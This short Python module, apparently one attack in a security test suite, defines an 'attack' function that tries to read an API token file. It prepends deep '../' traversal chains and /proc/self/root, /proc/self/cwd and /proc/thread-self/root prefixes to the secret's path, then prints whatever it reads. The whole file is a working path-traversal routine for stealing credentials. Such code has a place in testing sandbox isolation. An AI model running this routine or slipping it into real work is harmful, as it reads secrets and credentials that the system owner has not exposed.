"""Reads the API's token, first by a path with more `..` than any folder is deep.

It also tries its own root and working folder in `/proc`.
"""


def attack(facts: dict[str, str]) -> None:
    path = facts["secret_file"]
    for before in ("../" * 40, "/proc/self/root", "/proc/self/cwd/" + "../" * 40, "/proc/thread-self/root/"):
        try:
            print(open(before + path).read())
        except OSError:
            continue
